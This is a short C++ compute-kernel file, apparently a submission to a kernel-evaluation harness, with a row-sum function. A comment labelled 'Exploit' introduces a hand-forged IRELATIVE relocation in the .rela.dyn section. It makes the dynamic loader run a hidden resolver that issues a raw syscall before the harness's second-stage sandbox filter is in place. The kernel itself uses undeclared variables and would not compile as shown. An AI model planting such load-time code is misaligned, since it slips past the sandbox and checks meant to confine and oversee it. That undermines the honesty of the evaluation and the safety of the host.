/* kerf
target: cpu
*/
// Exploit: a relocation written by hand that makes the loader call a function of the kernel, before any filter of the
// second stage is in place.
extern "C" __attribute__((used, visibility("hidden"))) void* kerf_resolver() {
  long r = 39;
  __asm__ volatile("syscall" : "+a"(r) : : "rcx", "r11", "memory");
  return reinterpret_cast<void*>(r);
}
__asm__(R"(
.section .data.rel.ro,"aw",@progbits
.balign 8
kerf_place: .quad kerf_resolver
.section .rela.dyn,"a",@progbits
.balign 8
.quad kerf_place
.quad 37
.quad kerf_resolver
.text
)");
extern "C" void kerf_kernel(const float* x, float* y) {
  for (int r = 0; r < rows; ++r) {
    float s = 0;
    for (int c = 0; c < cols; ++c) s += x[r * cols + c];
    y[r] = s;
  }
}
